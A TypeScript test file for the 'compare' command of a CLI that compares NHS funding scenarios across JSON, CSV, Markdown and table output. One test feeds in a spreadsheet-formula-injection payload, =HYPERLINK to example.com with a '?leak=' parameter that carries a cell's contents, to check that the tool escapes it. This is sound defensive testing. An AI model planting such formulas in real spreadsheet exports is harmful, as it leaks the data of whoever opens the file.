import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import type { Io } from '../../src/cli/output.js';
import { compareCommand } from '../../src/cli/compare.js';
import type { Format } from '../../src/cli/formats.js';
import { UsageError } from '../../src/cli/usage.js';
import { cli, ROOT } from './cli.js';

const BASELINE = 'scenarios/baseline.yaml';
const GROWTH_3 = 'test/fixtures/compare/growth-3-percent.yaml';
const CAPACITY = 'scenarios/capacity-constrained.yaml';

function compare(files: string[], format: Format, cells?: string): string {
  let out = '';
  const io: Io = { out: (text) => void (out += text), err: (text) => void (out += text) };
  expect(compareCommand(files, { format, cells }, io)).toBe(0);
  return out;
}

/** Enough of RFC 4180 for these files: quoted fields may hold commas, quotes and newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') row.push(field), (field = '');
    else if (char === '\n') row.push(field), rows.push(row), (row = []), (field = '');
    else field += char;
  }
  return rows;
}

describe('nhs-whatif compare', () => {
  it('prints JSON with full precision', () => {
    const json = JSON.parse(compare([BASELINE, GROWTH_3], 'json'));
    expect(json.scenarios).toEqual([
      { name: 'Baseline', file: BASELINE, years: ['2016/17', '2017/18', '2018/19', '2019/20', '2020/21'] },
      { name: 'Growth 3%', file: GROWTH_3, years: ['2016/17', '2017/18', '2018/19', '2019/20', '2020/21'] },
    ]);
    const row = json.rows.find((candidate: { label: string }) => candidate.label === 'cumulative_extra_to_private');
    expect(row).toEqual({
      cell: 'cumulative_extra_to_private',
      label: 'cumulative_extra_to_private',
      part: 'value',
      unit: '£bn',
      values: [18.673275091764715, 28.3873792110604],
      differences: [{ absolute: 28.3873792110604 - 18.673275091764715, relative: (28.3873792110604 - 18.673275091764715) / 18.673275091764715 }],
    });
  });

  it('shows absent cells and errors in JSON', () => {
    const { code, stdout } = cli('compare', BASELINE, CAPACITY, 'test/fixtures/compare/broken-share.yaml', '--format', 'json');
    expect(code).toBe(1);
    const json = JSON.parse(stdout);
    const row = (label: string) => json.rows.find((candidate: { label: string }) => candidate.label === label);
    expect(row('nhs_capacity_growth').values).toEqual([{ absent: 'not in this scenario' }, 0.8, { absent: 'not in this scenario' }]);
    expect(row('nhs_capacity_growth').differences).toEqual([null, null]);
    expect(row('private_share 2020/21').values[2]).toEqual({ error: expect.stringContaining('division by zero') });
  });

  it('prints CSV a spreadsheet can read, with raw numbers', () => {
    const rows = parseCsv(compare([BASELINE, GROWTH_3, CAPACITY], 'csv'));
    expect(rows[0]).toEqual([
      'cell', 'part', 'year', 'unit', 'Baseline', 'Growth 3%', 'Capacity-constrained NHS',
      'Growth 3% change', 'Growth 3% relative change', 'Capacity-constrained NHS change', 'Capacity-constrained NHS relative change', 'error',
    ]);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([12]));
    const cumulative = rows.find((row) => row[0] === 'cumulative_extra_to_private')!;
    expect(cumulative.slice(0, 6)).toEqual(['cumulative_extra_to_private', 'value', '', '£bn', '18.673275091764715', '28.3873792110604']);
    expect(Number(cumulative[7])).toBe(28.3873792110604 - 18.673275091764715);
    const share = rows.find((row) => row[0] === 'private_share' && row[2] === '2020/21')!;
    expect(share[1]).toBe('year');
    expect(Number(share[4])).toBeCloseTo(0.1187, 4);
    expect(rows.find((row) => row[0] === 'nhs_capacity_growth')!.slice(4, 12)).toEqual(['', '', '0.8', '', '', '', '', '']);
  });

  it('prefixes scenario names a spreadsheet would run as formulas with a quote, and keeps negative numbers raw', () => {
    const { code, stdout } = cli(
      'compare', BASELINE, 'test/fixtures/cli/hyperlink-name.yaml', 'test/fixtures/cli/at-name.yaml', '--cells', 'cumulative_extra_to_nhs', '--format', 'csv',
    );
    const hyperlink = `'=HYPERLINK("http://example.com/?leak="&A1,"Baseline")`;
    expect(parseCsv(stdout)).toEqual([
      ['cell', 'part', 'year', 'unit', 'Baseline', hyperlink, "'@SUM(1+1)", `${hyperlink} change`, `${hyperlink} relative change`, "'@SUM(1+1) change", "'@SUM(1+1) relative change", 'error'],
      ['cumulative_extra_to_nhs', 'value', '', '£bn', '16.598466748235303', '8.189046581238404', '16.598466748235303', '-8.409420166996899', '-0.5066383717574975', '0', '0', ''],
    ]);
    expect(code).toBe(0);
  });

  it('gives the reason for each ERROR in the CSV error column', () => {
    const { code, stdout } = cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'csv');
    const rows = parseCsv(stdout);
    expect(rows[0]).toEqual(['cell', 'part', 'year', 'unit', 'Baseline', 'Broken share', 'Broken share change', 'Broken share relative change', 'error']);
    expect(rows.find((row) => row[2] === '2020/21')).toEqual([
      'private_share', 'year', '2020/21', 'percent', '0.11874275987241223', 'ERROR', '', '',
      'Broken share: 2016/17: result is Infinity (division by zero or a number out of range)',
    ]);
    expect(code).toBe(1);
  });

  it('prints a Markdown table ready for a briefing', () => {
    const md = compare([BASELINE, GROWTH_3], 'md', 'cumulative_extra_to_private,private_share');
    expect(md).toBe(
      [
        '### Baseline vs Growth 3%',
        '',
        '| cell | Baseline | Growth 3% | change | % |',
        '| --- | ---: | ---: | ---: | ---: |',
        '| cumulative_extra_to_private | £18.67bn | £28.39bn | +£9.71bn | +52.0% |',
        '| private_share 2016/17 | 8.49% | 8.92% | +0.43 pp | +5.1% |',
        '| private_share 2017/18 | 9.36% | 10.20% | +0.84 pp | +9.0% |',
        '| private_share 2018/19 | 10.22% | 11.45% | +1.23 pp | +12.1% |',
        '| private_share 2019/20 | 11.05% | 12.66% | +1.60 pp | +14.5% |',
        '| private_share 2020/21 | 11.87% | 13.83% | +1.96 pp | +16.5% |',
        '',
        'Changes are against Baseline; shares change in percentage points (pp).',
        '',
      ].join('\n'),
    );
  });

  it('prints an aligned table with a note on absent cells', () => {
    const table = compare([BASELINE, CAPACITY], 'table', 'cumulative_extra_to_nhs,nhs_capacity_growth');
    expect(table.split('\n')).toEqual([
      'cell                     Baseline  Capacity-constrained NHS    change       %',
      'cumulative_extra_to_nhs  £16.60bn                  £12.00bn  -£4.60bn  -27.7%',
      'nhs_capacity_growth             —                   £0.80bn',
      '',
      'Changes are against Baseline; shares change in percentage points (pp).',
      '— means the scenario has no such cell, or that year is outside its horizon.',
      '',
    ]);
  });

  it('lists errors under the table with file:line:col and exits 1', () => {
    const { code, stdout, stderr } = cli('compare', BASELINE, 'test/fixtures/compare/broken-share.yaml', '--cells', 'private_share', '--format', 'md');
    expect(stdout).toContain('| private_share 2020/21 | 11.87% | ERROR |  |  |');
    expect(stdout.endsWith(
      '\nErrors:\n\n- test/fixtures/compare/broken-share.yaml:5:18: private_share: 2016/17: result is Infinity (division by zero or a number out of range)\n',
    )).toBe(true);
    expect(stderr).toBe('');
    expect(code).toBe(1);
  });

  it('places an inherited failing formula in the parent file and names the scenario, on stderr for JSON', () => {
    const { code, stdout, stderr } = cli('compare', BASELINE, 'test/fixtures/cli/budget-collapse.yaml', '--format', 'json');
    expect(JSON.parse(stdout).scenarios.map((scenario: { name: string }) => scenario.name)).toEqual(['Baseline', 'Budget collapse']);
    expect(stderr).toBe(
      'scenarios/baseline.yaml:88:14: private_share: 2016/17: result is -Infinity (division by zero or a number out of range) (inherited by test/fixtures/cli/budget-collapse.yaml)\n',
    );
    expect(code).toBe(1);
  });

  it('reports every file that fails to load, not just the first', () => {
    const { code, stdout, stderr } = cli('compare', 'scenarios/no-such.yaml', BASELINE, 'test/fixtures/cli/missing-parent.yaml');
    expect(stdout).toBe('');
    expect(stderr).toBe(
      'scenarios/no-such.yaml:1:1: cannot read scenarios/no-such.yaml: no such file; check the path\n' +
        'test/fixtures/cli/missing-parent.yaml:2:10: parent scenario test/fixtures/cli/no-such-parent.yaml not found; check the path\n',
    );
    expect(code).toBe(1);
  });

  it('tells apart scenarios with the same name by file name in every format', () => {
    const files = [BASELINE, 'test/fixtures/cli/also-baseline.yaml', '--cells', 'cumulative_extra_to_nhs'];
    expect(cli('compare', ...files).stdout.split('\n')[0]).toBe('cell                     Baseline [baseline.yaml]  Baseline [also-baseline.yaml]    change       %');
    expect(cli('compare', ...files, '--format', 'md').stdout.split('\n').slice(0, 3)).toEqual([
      '### Baseline [baseline.yaml] vs Baseline [also-baseline.yaml]',
      '',
      '| cell | Baseline [baseline.yaml] | Baseline [also-baseline.yaml] | change | % |',
    ]);
    expect(parseCsv(cli('compare', ...files, '--format', 'csv').stdout)[0]!.slice(4, 8)).toEqual([
      'Baseline [baseline.yaml]', 'Baseline [also-baseline.yaml]', 'Baseline [also-baseline.yaml] change', 'Baseline [also-baseline.yaml] relative change',
    ]);
    expect(JSON.parse(cli('compare', ...files, '--format', 'json').stdout).scenarios.map((scenario: { name: string; file: string }) => [scenario.name, scenario.file])).toEqual([
      ['Baseline [baseline.yaml]', BASELINE],
      ['Baseline [also-baseline.yaml]', 'test/fixtures/cli/also-baseline.yaml'],
    ]);
  });

  it('uses the path when the file names are the same too, and the position when a file is given twice', () => {
    const md = cli('compare', BASELINE, 'test/fixtures/cli/renamed/baseline.yaml', '--cells', 'cumulative_extra_to_nhs', '--format', 'md').stdout;
    expect(md.split('\n')[0]).toBe('### Baseline [scenarios/baseline.yaml] vs Baseline [test/fixtures/cli/renamed/baseline.yaml]');
    const twice = cli('compare', BASELINE, BASELINE, '--cells', 'cumulative_extra_to_nhs');
    expect(twice.stdout.split('\n').slice(0, 2)).toEqual([
      'cell                     Baseline [baseline.yaml #1]  Baseline [baseline.yaml #2]    change      %',
      'cumulative_extra_to_nhs                     £16.60bn                     £16.60bn  ±£0.00bn  ±0.0%',
    ]);
    expect(twice.code).toBe(0);
  });

  it('refuses an unknown --cells name with a suggestion', () => {
    expect(() => compare([BASELINE, CAPACITY], 'table', 'cumulative_extra_to_privat')).toThrow(
      new UsageError('--cells: no cell named "cumulative_extra_to_privat" in these scenarios (did you mean "cumulative_extra_to_private"?)'),
    );
    expect(() => compare([BASELINE, CAPACITY], 'table', ' , ')).toThrow(UsageError);
  });

  it('exits 0 on success and 2 on a usage mistake when run as a command', () => {
    const run = (...args: string[]) =>
      spawnSync(process.execPath, ['--import', 'tsx', 'src/cli/nhs-whatif.ts', 'compare', ...args], { cwd: ROOT, encoding: 'utf8', timeout: 60_000 });
    const ok = run(BASELINE, 'scenarios/higher-growth.yaml', '--cells', 'cumulative_extra_to_private');
    expect(ok.stdout).toContain('cumulative_extra_to_private  £18.67bn       £34.34bn  +£15.67bn  +83.9%');
    expect(ok.status).toBe(0);
    const bad = run(BASELINE, 'scenarios/higher-growth.yaml', '--cells', 'budjet');
    expect(bad.stderr).toContain('nhs-whatif: --cells: no cell named "budjet" in these scenarios (did you mean "budget"?)');
    expect(bad.status).toBe(2);
  }, 60_000);
});
